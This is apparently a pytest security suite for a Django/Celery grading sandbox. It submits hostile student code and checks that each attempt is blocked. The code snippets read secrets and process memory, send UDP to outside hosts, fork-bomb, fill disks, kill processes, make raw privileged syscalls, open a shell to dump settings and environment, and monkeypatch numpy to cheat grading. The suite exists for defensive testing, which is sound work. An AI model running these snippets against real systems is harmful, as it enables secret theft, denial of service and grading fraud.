"""The attack corpus: hostile submissions pushed through the real Celery worker, Redis and sandbox.

Every attack is a student's submission for the ``softmax`` exercise. Its ``softmax`` is wrong on
purpose (zeros) unless the attack worked: an attack that read the reference solution would use it,
so "below full marks" is a claim that can fail. Attempts print ``BLOCKED <what>: <exception>`` or
``LEAKED <what>: <what it got>`` at import time, which the worker stores as the submission's
output; the tests look for the attack's own report of failure, so a silent success cannot pass.

After every attack, from the outside:
- nothing secret is in the stored message, checks or output (the reference solution, the hidden
  checks, settings, the worker's credentials, and the tokens a test planted for the occasion);
- the verdict is an error or below full marks, and it is a verdict (it counts as an attempt), not
  a platform fault the student could trigger at will;
- no process of a slot uid (the zygote's block of 100 uids) is left, no working directory is left
  in the run directory, the zygote is the same process and the worker is alive;
- the worker grades the next correct submission with full marks.

    SANDBOX_REQUIRE_ALL_LAYERS=1 .venv/bin/python -m pytest tests/security/test_attacks.py -q -p no:cacheprovider
"""

import json
import os
import shutil
import socket
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest
from django.conf import settings
from django.db import connection

from exercises import services
from exercises.models import Submission
from grader.bank import load_bundle
from tests.conftest import wait_until_final
from tests.platform.sources import CORRECT_SOFTMAX

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.worker]

ROOT = Path(__file__).resolve().parents[2]
BANK = ROOT / "exercises" / "bank" / "softmax"
TIME_LIMIT_S = 3
MiB = 1 << 20

# Text that must never reach the student, with the file each one is taken from (checked below, so
# that a rewrite of those files cannot silently turn these assertions into no-ops).
SECRET_LINES = {
    # The reference's solution region (its docstring is the starter's, which the student may read).
    BANK / "solution.py": [
        "shifted = x - np.max(x, axis=0, keepdims=True)",
        "return e / np.sum(e, axis=0, keepdims=True)",
    ],
    BANK / "checks.py": ["RTOL = 1e-6", "rng.uniform(990, 1010", "from grader.properties import columns_sum_to_one"],
    ROOT / "config" / "settings.py": ["SANDBOX_UID_BASE = envint", "CELERY_BROKER_TRANSPORT_OPTIONS"],
}

# Every attack starts with this: a reporter and a softmax that is wrong on purpose.
PRELUDE = '''\
import os
import sys

import numpy as np


def report(label, attempt):
    """Run one attempt: print what it got (LEAKED) or why it failed (BLOCKED)."""
    try:
        got = attempt()
    except BaseException as exc:
        print(f"BLOCKED {label}: {type(exc).__name__}: {str(exc)[:120]}", flush=True)
        return None
    print(f"LEAKED {label}: {str(got)[:1500]}", flush=True)
    return got


def wrong_softmax(x):
    return np.zeros(np.shape(x))


softmax = wrong_softmax
print("CWD", os.getcwd(), flush=True)
'''


def fill(source: str, **values) -> str:
    """The attack's source with each @NAME@ replaced by repr(value)."""
    text = PRELUDE + source
    for name, value in values.items():
        text = text.replace(f"@{name}@", repr(value))
    assert "@" not in text.replace("@property", ""), "an unfilled placeholder is left in the attack"
    return text


# -- the host as the tests see it -----------------------------------------------------------------


def _read(path: str, binary: bool = False):
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        return None
    return data if binary else data.decode(errors="replace")


def process_table() -> dict[int, tuple[int, set[int], list[str]]]:
    """pid -> (ppid, every uid of the process, argv) for every process on the host."""
    table = {}
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        status, cmdline = _read(f"/proc/{name}/status"), _read(f"/proc/{name}/cmdline", binary=True)
        if status is None or cmdline is None:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if fields.get("State", "").split()[:1] in (["Z"], ["X"]):
            continue
        uids = {int(u) for u in fields.get("Uid", "").split()}
        argv = [a.decode(errors="replace") for a in cmdline.split(b"\0") if a]
        table[int(name)] = (int(fields.get("PPid", "0")), uids, argv)
    return table


@dataclass
class Host:
    worker: object
    zygote_pid: int
    socket_path: str
    runs_dir: Path
    slots: int
    redis_port: int
    secrets: list[str] = field(default_factory=list)
    uid_base: int = 64000  # the zygote's block of 100 uids (slots from it, the Keras pool's from +50)

    @property
    def slot_uids(self) -> range:
        return range(self.uid_base, self.uid_base + 100)

    def zygotes_of_others(self, table) -> set[int]:
        """Zygotes of other test runs on this machine (other engineers share it): not ours to judge."""
        return {pid for pid, (_, _, argv) in table.items() if any(a.endswith("zygote.py") for a in argv)} - {
            self.zygote_pid
        }

    def slot_processes(self) -> list[tuple[int, list[str]]]:
        """Processes under a slot uid, except those that belong to another test run's zygote."""
        table = process_table()
        foreign = self.zygotes_of_others(table)

        def belongs_to_another_run(pid: int) -> bool:
            seen = set()
            while pid > 1 and pid not in seen:
                seen.add(pid)
                if pid in foreign:
                    return True
                pid = table.get(pid, (0,))[0]
            return False

        return [
            (pid, argv)
            for pid, (_, uids, argv) in table.items()
            if uids & set(self.slot_uids) and not belongs_to_another_run(pid)
        ]


def _arg(argv: list[str], name: str) -> str:
    return argv[argv.index(name) + 1]


@pytest.fixture(scope="module")
def host(worker, redis_url):
    table = process_table()
    zygotes = [
        (pid, argv)
        for pid, (ppid, _, argv) in table.items()
        if ppid == worker.process.pid and any(a.endswith("zygote.py") for a in argv)
    ]
    assert len(zygotes) == 1, f"expected one zygote under the worker, found {zygotes}"
    zygote_pid, argv = zygotes[0]
    environ = dict(
        item.split("=", 1) for item in _read(f"/proc/{worker.process.pid}/environ").split("\0") if "=" in item
    )
    secrets = [settings.SECRET_KEY, environ["DATABASE_URL"], environ["REDIS_URL"]]
    for path, lines in SECRET_LINES.items():
        text = path.read_text()
        for line in lines:
            assert line in text, f"{line!r} is no longer in {path}: update SECRET_LINES"
        secrets += lines
    port = int(redis_url.rsplit(":", 1)[1].split("/")[0])
    return Host(
        worker,
        zygote_pid,
        _arg(argv, "--socket"),
        Path(_arg(argv, "--run-dir")),
        int(_arg(argv, "--slots")),
        port,
        secrets,
        int(_arg(argv, "--uid-base")),
    )


@pytest.fixture
def exercise(softmax_exercise):
    softmax_exercise.time_limit_s = TIME_LIMIT_S
    softmax_exercise.save(update_fields=["time_limit_s"])
    return softmax_exercise


@pytest.fixture
def token():
    return "tok" + uuid.uuid4().hex


# -- submitting and checking ----------------------------------------------------------------------


def submit(student, exercise, source: str, timeout_s: float = 60) -> Submission:
    return wait_until_final(services.submit(student, exercise, source, language="en"), timeout_s=timeout_s)


def shown(submission: Submission) -> str:
    """Everything the student can read about a graded submission."""
    return "\n".join([submission.message, json.dumps(submission.checks, ensure_ascii=False), submission.stdout])


def assert_contained(submission: Submission, host: Host, student, exercise, *, tokens=(), cheat: bool = True):
    text = shown(submission)
    for secret in [*host.secrets, *tokens]:
        assert secret not in text, f"{secret!r} leaked into what the student sees:\n{text[:3000]}"
    assert submission.counts, f"a platform fault the student can trigger at will: {submission.message}"
    assert submission.status in (Submission.Status.GRADED, Submission.Status.ERROR)
    if cheat:
        assert submission.status == Submission.Status.ERROR or submission.score < submission.max_score, text[:2000]
    assert_nothing_left(host, submission)
    after = submit(student, exercise, CORRECT_SOFTMAX)
    assert (after.status, after.score) == (Submission.Status.GRADED, after.max_score), shown(after)[:2000]


def assert_nothing_left(host: Host, submission: Submission | None = None, wait_s: float = 3.0):
    """No slot process left; the run's working directory is gone (it said where it was, when its
    output is shown), and no more of them than slots (a supervisor may prepare one ahead)."""
    own = [
        line.split(" ", 1)[1]
        for line in (submission.stdout if submission else "").splitlines()
        if line.startswith("CWD /")
    ][:1]
    deadline = time.monotonic() + wait_s
    while True:
        left = host.slot_processes()
        workdirs = sorted(p.name for p in host.runs_dir.iterdir()) if host.runs_dir.exists() else []
        if not left and len(workdirs) <= host.slots and not any(os.path.exists(p) for p in own):
            break
        assert time.monotonic() < deadline, (
            f"left after the run: processes {left}, working directories {workdirs} (the run's own: {own})"
        )
        time.sleep(0.05)
    assert host.worker.alive(), "the worker died"
    ppid = process_table().get(host.zygote_pid, (None,))[0]
    assert ppid == host.worker.process.pid, "the zygote died or was replaced"


def assert_blocked(submission: Submission, *labels: str):
    out = submission.stdout
    assert "LEAKED" not in out, out[:3000]
    for label in labels:
        assert f"BLOCKED {label}:" in out, f"no report of a blocked {label!r} in:\n{out[:3000]}"


# == 1. secrets on the file system and in other processes =========================================

READ_FILE = """
loot = report("read", lambda: open(@PATH@, "rb").read().decode(errors="replace"))
if loot:
    stolen = {}
    try:
        exec(loot, stolen)  # the stolen reference, if that is what it was, gets full marks
        softmax = stolen["softmax"]
    except BaseException:
        pass
"""

LIST_AND_READ = """
try:
    print("LIST", os.listdir(os.path.dirname(@PATH@)))
except OSError as exc:
    print("LIST failed:", exc)
loot = report("read", lambda: open(@PATH@, "rb").read().decode(errors="replace"))
"""


@pytest.mark.parametrize("which", ["solution.py", "checks.py", "settings.py"])
def test_read_a_file_of_the_project(which, host, worker, student, exercise):
    path = {
        "solution.py": BANK / "solution.py",
        "checks.py": BANK / "checks.py",
        "settings.py": ROOT / "config" / "settings.py",
    }[which]
    submission = submit(student, exercise, fill(READ_FILE, PATH=str(path.resolve())))
    assert_blocked(submission, "read")
    assert_contained(submission, host, student, exercise)


def test_read_dot_env_in_the_project_root(host, worker, student, exercise, token):
    dot_env = ROOT / ".env"
    if dot_env.exists():
        pytest.skip("a .env already exists in the project root; not touching it")
    dot_env.write_text(f"SECRET_KEY={token}\nDATABASE_URL=postgres://grader:{token}@db/grader\n")
    try:
        submission = submit(student, exercise, fill(LIST_AND_READ, PATH=str(dot_env)))
    finally:
        dot_env.unlink()
    assert_blocked(submission, "read")
    assert ".env" not in submission.stdout.split("LIST", 1)[1].split("\n", 1)[0]
    assert_contained(submission, host, student, exercise, tokens=[token])


@pytest.mark.parametrize("where", ["/tmp", "/home", "/var/tmp"])
def test_read_another_students_files(where, host, student, exercise, token):
    folder = Path(where) / f"student-{uuid.uuid4().hex[:12]}"
    folder.mkdir(mode=0o755)
    (folder / "softmax.py").write_text(f"# {token}\n{CORRECT_SOFTMAX}")
    try:
        submission = submit(student, exercise, fill(LIST_AND_READ + READ_FILE, PATH=str(folder / "softmax.py")))
    finally:
        shutil.rmtree(folder)
    assert_blocked(submission, "read")
    assert "softmax.py" not in submission.stdout.split("LIST", 1)[1].split("\n", 1)[0]  # not even listed
    assert_contained(submission, host, student, exercise, tokens=[token])


def test_read_another_runs_working_directory(host, worker, student, exercise, token):
    """A concurrent run of another student lives beside ours in the zygote's run directory."""
    other = host.runs_dir / f"run1-{uuid.uuid4().hex[:12]}"
    other.mkdir(mode=0o700)
    (other / "answer.py").write_text(f"# {token}\n")
    try:
        source = fill(
            """
print("LIST", os.listdir(os.path.dirname(os.getcwd())))
report("read", lambda: open(@PATH@).read())
""",
            PATH=str(other / "answer.py"),
        )
        submission = wait_until_final(services.submit(student, exercise, source, language="en"))
    finally:
        shutil.rmtree(other)
    listed = submission.stdout.split("LIST", 1)[1].split("\n", 1)[0]
    assert other.name not in listed and os.path.basename(submission.stdout.split("CWD ", 1)[1].split()[0]) in listed
    assert_blocked(submission, "read")
    assert_contained(submission, host, student, exercise, tokens=[token])


def test_read_the_test_database(host, worker, student, exercise):
    name = connection.settings_dict["NAME"]
    path = str(name) if connection.vendor == "sqlite" else str(ROOT / "var" / "db.sqlite3")
    source = fill(
        """
report("read", lambda: open(@PATH@, "rb").read(4096))
report("list var", lambda: os.listdir(os.path.dirname(@PATH@)))
""",
        PATH=path,
    )
    submission = submit(student, exercise, source)
    assert_blocked(submission, "read", "list var")
    assert "SQLite format 3" not in shown(submission)
    assert_contained(submission, host, student, exercise)


def test_read_proc_1_environ(host, worker, student, exercise):
    source = fill("""
report("environ of pid 1", lambda: open("/proc/1/environ", "rb").read())
print("PID", os.getpid(), "PID1", open("/proc/1/cmdline", "rb").read().split(b"\\0")[:3])
""")
    submission = submit(student, exercise, source)
    assert_blocked(submission, "environ of pid 1")
    # pid 1 is the run itself, in its own pid namespace: never the host's init or the worker
    assert "PID 1 PID1 [" in submission.stdout and "celery" not in submission.stdout
    assert_contained(submission, host, student, exercise)


def test_read_the_zygotes_memory_and_environment(host, worker, student, exercise):
    source = fill(
        """
def read_memory(pid):
    with open(f"/proc/{pid}/maps") as maps:
        start, end = (int(v, 16) for v in maps.readline().split()[0].split("-"))
    with open(f"/proc/{pid}/mem", "rb") as mem:
        mem.seek(start)
        return mem.read(min(end - start, 4096))

for pid in (@ZYGOTE@, @WORKER@):
    report(f"mem of {pid}", lambda: read_memory(pid))
    report(f"environ of {pid}", lambda: open(f"/proc/{pid}/environ", "rb").read())
report("environ of the parent", lambda: open(f"/proc/{os.getppid()}/environ", "rb").read())
report("memory of the parent", lambda: read_memory(os.getppid()))
""",
        ZYGOTE=host.zygote_pid,
        WORKER=worker.process.pid,
    )
    submission = submit(student, exercise, source)
    assert_blocked(
        submission,
        f"mem of {host.zygote_pid}",
        f"environ of {host.zygote_pid}",
        f"mem of {worker.process.pid}",
        f"environ of {worker.process.pid}",
        "environ of the parent",
        "memory of the parent",
    )
    assert_contained(submission, host, student, exercise)


def test_dump_the_environment(host, worker, student, exercise):
    source = fill("""
print("ENV", sorted(os.environ.items()))
report("environ of self", lambda: open("/proc/self/environ", "rb").read())
""")
    submission = submit(student, exercise, source)
    assert "ENV [" in submission.stdout and "'PATH'" in submission.stdout  # the dump ran
    for name in ("DATABASE_URL", "REDIS_URL", "SECRET_KEY", "DJANGO_SETTINGS_MODULE", "SANDBOX_RUN_DIR"):
        assert name not in submission.stdout
    assert_contained(submission, host, student, exercise)


def test_symlink_in_the_working_directory_to_a_host_file(host, worker, student, exercise, token):
    """A link left in the working directory must not make the cleanup touch what it points to."""
    victim = Path("/tmp") / f"victim-{token}"
    victim.write_text(token)
    try:
        source = fill(
            """
report("symlink", lambda: os.symlink(@PATH@, "link") or "linked")
report("symlink dir", lambda: os.symlink(os.path.dirname(@PATH@), "dir") or "linked")
report("read through it", lambda: open("link").read())
""",
            PATH=str(victim),
        )
        submission = submit(student, exercise, source)
        assert victim.read_text() == token
    finally:
        victim.unlink()
    assert "BLOCKED read through it" in submission.stdout
    assert_contained(submission, host, student, exercise, tokens=[token])


# == 2. the network ================================================================================

CONNECT_TCP = """
import socket
report("tcp", lambda: socket.create_connection(("127.0.0.1", @PORT@), timeout=2).recv(100))
"""


@pytest.fixture
def listener():
    """A TCP listener and a UDP socket of the test, both on loopback, that must never hear from the sandbox."""
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    tcp.setblocking(False)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    yield tcp, udp
    for sock in (tcp, udp):
        with pytest.raises(BlockingIOError):  # nothing ever reached them
            sock.accept() if sock is tcp else sock.recvfrom(100)
        sock.close()


@pytest.mark.parametrize("target", ["redis", "postgresql-5432", "test-listener"])
def test_tcp_connect_to_loopback(target, host, listener, student, exercise):
    port = {"redis": host.redis_port, "postgresql-5432": 5432, "test-listener": listener[0].getsockname()[1]}[target]
    submission = submit(student, exercise, fill(CONNECT_TCP, PORT=port))
    assert_blocked(submission, "tcp")
    assert_contained(submission, host, student, exercise)


def test_unix_socket_connect(host, worker, student, exercise):
    paths = [
        host.socket_path,
        "/var/run/postgresql/.s.PGSQL.5432",
        "/run/postgresql/.s.PGSQL.5432",
        "/var/run/redis/redis-server.sock",
        "/run/redis/redis.sock",
        "/run/mysqld/mysqld.sock",
    ]
    source = fill(
        """
import socket

def connect(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(path)
        s.sendall(b"\\0" * 8)
        return s.recv(100)

for path in @PATHS@:
    report(f"unix {path}", lambda: connect(path))
report("socketpair", lambda: socket.socketpair())
report("see the zygote socket", lambda: os.stat(@ZYGOTE_SOCKET@))
""",
        PATHS=paths,
        ZYGOTE_SOCKET=host.socket_path,
    )
    submission = submit(student, exercise, source)
    assert_blocked(submission, *[f"unix {p}" for p in paths], "socketpair", "see the zygote socket")
    assert_contained(submission, host, student, exercise)


def test_udp_and_dns(host, listener, worker, student, exercise):
    source = fill(
        """
import socket

def send(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return s.sendto(b"exfiltrated", address)

report("udp loopback", lambda: send(("127.0.0.1", @PORT@)))
report("udp dns", lambda: send(("8.8.8.8", 53)))
report("getaddrinfo", lambda: socket.getaddrinfo("example.com", 80))
report("ipv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM))
report("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
report("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
""",
        PORT=listener[1].getsockname()[1],
    )
    submission = submit(student, exercise, source)
    assert_blocked(submission, "udp loopback", "udp dns", "getaddrinfo", "ipv6", "netlink", "packet")
    assert_contained(submission, host, student, exercise)


# == 3. resources ===================================================================================

RESOURCE_ATTACKS = {
    "fork-bomb": """
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "bytearray-4GiB": """
hog = bytearray(4 << 30)
""",
    "growing-list-in-softmax": """
def softmax(x):
    hog = []
    while True:
        hog.append(bytearray(1 << 20))
""",
    "infinite-loop-at-import": """
while True:
    pass
""",
    "infinite-loop-in-softmax": """
def softmax(x):
    while True:
        pass
""",
    "sleep-at-import": """
import time
time.sleep(1000)
""",
    "sleep-in-softmax": """
import time

def softmax(x):
    time.sleep(1000)
""",
    "ignore-sigterm-sigxcpu": """
import signal
for name in ("SIGTERM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGALRM", "SIGUSR1"):
    signal.signal(getattr(signal, name), signal.SIG_IGN)
while True:
    pass
""",
    "deep-recursion": """
def softmax(x, depth=0):
    return softmax(x, depth + 1)
""",
    "deep-recursion-raised-limit": """
sys.setrecursionlimit(10**7)

def softmax(x, depth=0):
    return softmax(x, depth + 1) + 1
""",
}


@pytest.mark.parametrize("name", list(RESOURCE_ATTACKS))
def test_resource_exhaustion(name, host, worker, student, exercise):
    started = time.monotonic()
    submission = submit(student, exercise, fill(RESOURCE_ATTACKS[name]))
    assert time.monotonic() - started < TIME_LIMIT_S + 20
    assert submission.status == Submission.Status.ERROR, shown(submission)[:2000]
    assert_contained(submission, host, student, exercise)


def test_a_thousand_threads(host, worker, student, exercise):
    source = fill("""
import threading, time
started = []
def spawn():
    for _ in range(1000):
        t = threading.Thread(target=time.sleep, args=(100,), daemon=True)
        t.start()
        started.append(t)
report("1000 threads", spawn)
print("THREADS", len(started))
""")
    submission = submit(student, exercise, source)
    assert_blocked(submission, "1000 threads")
    started = int(submission.stdout.split("THREADS", 1)[1].split()[0])
    assert started < 64  # the process limit of the slot (32) stops it
    assert_contained(submission, host, student, exercise)


DISK_ATTACKS = {
    # where, size of each file, how many
    "one-big-file-in-workdir": ("workdir", 1024 * MiB, 1),
    "one-big-file-in-tmp": ("/tmp", 1024 * MiB, 1),
    "many-63MiB-files-in-workdir": ("workdir", 63 * MiB, 40),
    "many-63MiB-files-in-tmp": ("/tmp", 63 * MiB, 40),
    "many-63MiB-files-in-dev-shm": ("/dev/shm", 63 * MiB, 40),
}


@pytest.mark.parametrize("name", list(DISK_ATTACKS))
def test_fill_the_disk(name, host, worker, student, exercise):
    where, size, count = DISK_ATTACKS[name]
    source = fill(
        """
chunk = b"x" * (1 << 20)
written = 0

def write_file(path):
    global written
    with open(path, "wb") as f:
        for _ in range(@SIZE@ // len(chunk)):
            f.write(chunk)
            f.flush()
            written += len(chunk)

where = os.getcwd() if @WHERE@ == "workdir" else @WHERE@
for i in range(@COUNT@):
    if report(f"file {i}", lambda: write_file(os.path.join(where, f"fill{i}"))) is None:
        pass
print("WRITTEN", written)
""",
        SIZE=size,
        WHERE=where,
        COUNT=count,
    )
    free_before = shutil.disk_usage("/tmp").free
    submission = submit(student, exercise, source)
    assert "BLOCKED file " in submission.stdout
    written = int(submission.stdout.split("WRITTEN", 1)[1].split()[0])
    assert written <= 64 * MiB + MiB  # one file capped at 16 MiB, a tmpfs at 64 MiB
    assert shutil.disk_usage("/tmp").free > free_before - 256 * MiB
    assert_contained(submission, host, student, exercise)


def test_write_outside_the_working_directory(host, worker, student, exercise, token):
    targets = [
        f"/etc/{token}",
        str(ROOT / token),
        str(ROOT / "exercises" / "bank" / "softmax" / token),
        f"/var/tmp/{token}",
        f"/dev/shm/{token}",
        f"/tmp/{token}",
        f"/{token}",
        f"/usr/lib/{token}",
        f"{os.path.dirname(ROOT.as_posix())}/{token}",
    ]
    source = fill(
        """
def write(path):
    with open(path, "w") as f:
        f.write("pwned")

for path in @TARGETS@:
    try:
        write(path)
        print(f"WROTE {path}")
    except OSError as exc:
        print(f"BLOCKED write {path}: {exc}")
report("chmod project", lambda: os.chmod(@ROOT@, 0o777))
report("rename solution", lambda: os.rename(@SOLUTION@, @SOLUTION@ + ".bak"))
""",
        TARGETS=targets,
        ROOT=str(ROOT),
        SOLUTION=str(BANK / "solution.py"),
    )
    submission = submit(student, exercise, source)
    # /tmp and /dev/shm are the run's own private tmpfs: writing there works but stays there
    assert_blocked(
        submission,
        *[f"write {t}" for t in targets if not t.startswith(("/tmp/", "/dev/shm/"))],
        "chmod project",
        "rename solution",
    )
    assert f"WROTE /tmp/{token}" in submission.stdout  # its own private /tmp, gone with the run
    for target in targets:
        assert not os.path.exists(target), f"{target} was written on the host"
    assert (BANK / "solution.py").exists()
    assert_contained(submission, host, student, exercise)


# == 4. processes ===================================================================================

KILL_ATTACKS = {
    "kill-the-parent": """
report("kill parent", lambda: os.kill(os.getppid(), 9))
""",
    "kill-minus-one": """
report("kill -1", lambda: os.kill(-1, 9))
""",
    "kill-every-visible-pid": """
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        report(f"kill {name}", lambda: os.kill(int(name), 9))
for pid in (@ZYGOTE@, @WORKER@):
    report(f"kill host {pid}", lambda: os.kill(pid, 9))
""",
    "kill-the-process-group-and-session": """
report("killpg", lambda: os.killpg(os.getpgid(0), 9))
""",
}


@pytest.mark.parametrize("name", list(KILL_ATTACKS))
def test_kill_other_processes(name, host, worker, student, exercise):
    source = fill(KILL_ATTACKS[name], ZYGOTE=host.zygote_pid, WORKER=worker.process.pid)
    submission = submit(student, exercise, source)
    if name == "kill-every-visible-pid":
        assert_blocked(submission, f"kill host {host.zygote_pid}", f"kill host {worker.process.pid}")
    assert_contained(submission, host, student, exercise)  # same zygote, worker alive


def test_double_forked_process_does_not_outlive_the_run(host, worker, student, exercise, token):
    marker = Path("/tmp") / f"marker-{token}"
    source = fill(
        """
import time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(50):  # 10 s of trying to leave a mark on the host
            for path in (@MARKER@, os.path.join(@RUNS@, "marker"), "/dev/shm/marker"):
                try:
                    with open(path, "a") as f:
                        f.write("alive\\n")
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
os.waitpid(pid, 0)
print("FORKED")
""",
        MARKER=str(marker),
        RUNS=str(host.runs_dir),
    )
    submission = submit(student, exercise, source)
    assert "FORKED" in submission.stdout
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline:
        assert not marker.exists(), "the orphan wrote on the host"
        assert not host.slot_processes(), "the orphan outlived the run"
        time.sleep(0.2)
    assert not (host.runs_dir / "marker").exists()
    assert_contained(submission, host, student, exercise)


# == 5. the kernel: raw syscalls, exec, privileges =================================================


def test_raw_syscalls_through_ctypes(host, worker, student, exercise):
    source = fill(
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def raw(name, nr, *args):
    ctypes.set_errno(0)
    ret = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if ret == 0 and name == "clone":
        os._exit(0)  # the clone child, had there been one
    if ret < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return ret

buf = ctypes.create_string_buffer(64)
clone_args = (ctypes.c_uint64 * 11)(0x10000000)  # struct clone_args, flags = CLONE_NEWUSER
for name, nr, args in [
    ("socket", 41, (2, 1, 0)),
    ("socket-x32", 0x40000000 | 41, (2, 1, 0)),
    ("ptrace-attach", 101, (16, @ZYGOTE@, 0, 0)),
    ("ptrace-traceme", 101, (0, 0, 0, 0)),
    ("process_vm_readv", 310, (@ZYGOTE@, 0, 1, 0, 1, 0)),
    ("unshare-user", 272, (0x10000000,)),
    ("unshare-net-mount", 272, (0x40020000,)),
    ("clone-newuser", 56, (0x10000000 | 17, 0, 0, 0, 0)),
    ("mount", 165, (ctypes.addressof(buf), ctypes.addressof(buf), ctypes.addressof(buf), 0, 0)),
    ("umount2", 166, (ctypes.addressof(buf), 0)),
    ("chroot", 161, (ctypes.addressof(buf),)),
    ("pivot_root", 155, (ctypes.addressof(buf), ctypes.addressof(buf))),
    ("setns", 308, (0, 0)),
    ("bpf", 321, (0, 0, 0)),
    ("io_uring_setup", 425, (8, ctypes.addressof(buf))),
    ("userfaultfd", 323, (0,)),
    ("perf_event_open", 298, (ctypes.addressof(buf), 0, -1, -1, 0)),
    ("keyctl", 250, (0, 0, 0, 0, 0)),
    ("init_module", 175, (0, 0, 0)),
    ("kexec_load", 246, (0, 0, 0, 0)),
    ("setuid-0", 105, (0,)),
    ("reboot", 169, (0, 0, 0, 0)),
    ("clone3-newuser", 435, (ctypes.addressof(clone_args), 88)),
]:
    report(name, lambda: raw(name, nr, *args))
""",
        ZYGOTE=host.zygote_pid,
    )
    submission = submit(student, exercise, source)
    assert_blocked(
        submission,
        "socket",
        "socket-x32",
        "ptrace-attach",
        "ptrace-traceme",
        "process_vm_readv",
        "unshare-user",
        "unshare-net-mount",
        "clone-newuser",
        "mount",
        "umount2",
        "chroot",
        "pivot_root",
        "setns",
        "bpf",
        "io_uring_setup",
        "userfaultfd",
        "perf_event_open",
        "keyctl",
        "init_module",
        "kexec_load",
        "setuid-0",
        "reboot",
        "clone3-newuser",
    )
    assert_contained(submission, host, student, exercise)


def test_subprocess_shell(host, worker, student, exercise):
    source = fill(
        """
import subprocess
out = subprocess.run(["/bin/sh", "-c", "id; cat @SETTINGS@; env; ls /home /root"], capture_output=True, text=True)
print("SHELL", out.stdout, out.stderr)
""",
        SETTINGS=str(ROOT / "config" / "settings.py"),
    )
    submission = submit(student, exercise, source)
    out = submission.stdout
    uid = int(out.split("SHELL uid=", 1)[1].split("(", 1)[0].split()[0])
    assert uid in host.slot_uids and "uid=0(" not in out, out[:2000]
    assert "No such file or directory" in out  # settings.py is not there to cat
    assert_contained(submission, host, student, exercise)


def test_os_system_cannot_touch_the_host(host, worker, student, exercise, token):
    marker = Path("/tmp") / f"system-{token}"
    source = fill(
        """
status = os.system(@COMMAND@)
print("SYSTEM", status)
""",
        COMMAND=f"id; touch {marker}; touch {ROOT / token}",
    )
    submission = submit(student, exercise, source)
    assert "SYSTEM" in submission.stdout
    assert not marker.exists() and not (ROOT / token).exists()
    assert_contained(submission, host, student, exercise)


def test_execv_replaces_the_runner(host, worker, student, exercise):
    source = fill("""
os.execv("/bin/sh", ["sh", "-c", "echo EXECV-RAN; id"])
""")
    submission = submit(student, exercise, source)
    assert submission.status == Submission.Status.ERROR
    assert "EXECV-RAN" in submission.stdout and "uid=0(" not in submission.stdout
    assert_contained(submission, host, student, exercise)


def test_privileges_cannot_be_raised(host, worker, student, exercise):
    source = fill("""
import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
    res = getattr(resource, name)
    report(f"raise {name}", lambda: resource.setrlimit(res, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))
report("setuid 0", lambda: os.setuid(0))
report("setgid 0", lambda: os.setgid(0))
report("setgroups 0", lambda: os.setgroups([0]))
report("seteuid 0", lambda: os.seteuid(0))
report("cgroup escape", lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write(str(os.getpid())))
report("sysctl", lambda: open("/proc/sys/kernel/hostname", "w").write("pwned"))
report("chown", lambda: os.chown(".", 0, 0))
report("open 10000 files", lambda: [open("/dev/null") for _ in range(10000)])
status = open("/proc/self/status").read()
print("STATUS", [line for line in status.splitlines() if line.startswith(("Uid:", "Gid:", "Groups:", "NoNewPrivs:",
                                                                          "Seccomp:", "CapEff:"))])
""")
    submission = submit(student, exercise, source)
    assert_blocked(
        submission,
        "raise RLIMIT_AS",
        "raise RLIMIT_CPU",
        "raise RLIMIT_NPROC",
        "raise RLIMIT_FSIZE",
        "raise RLIMIT_NOFILE",
        "setuid 0",
        "setgid 0",
        "setgroups 0",
        "seteuid 0",
        "cgroup escape",
        "sysctl",
        "chown",
        "open 10000 files",
    )
    status = submission.stdout.split("STATUS", 1)[1]
    uid = int(status.split("'Uid:\\t", 1)[1].split("\\t")[0])
    assert uid in host.slot_uids and uid != 0
    assert "'NoNewPrivs:\\t1'" in status and "'Seccomp:\\t2'" in status and "'CapEff:\\t0000000000000000'" in status
    assert_contained(submission, host, student, exercise)


# == 6. cheating the verdict ========================================================================

CHEATS = {
    "patch-numpy-allclose": """
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
""",
    "patch-numpy-testing": """
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_almost_equal = lambda *a, **k: None
""",
    "patch-numpy-isclose": """
np.isclose = lambda a, b, *args, **kw: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
""",
    "patch-builtins-isinstance": """
import builtins
builtins.isinstance = lambda obj, cls: True
""",
    "patch-builtins-import": """
import builtins
real_import = builtins.__import__

def fake_import(name, *args, **kwargs):
    if name in ("grader", "json", "protocol"):
        raise ImportError("no")
    return real_import(name, *args, **kwargs)

builtins.__import__ = fake_import
""",
    "patch-the-runner": """
for module in list(sys.modules.values()):
    for attr in ("compare_values", "compare_arrays", "judge", "failure"):
        if hasattr(module, attr):
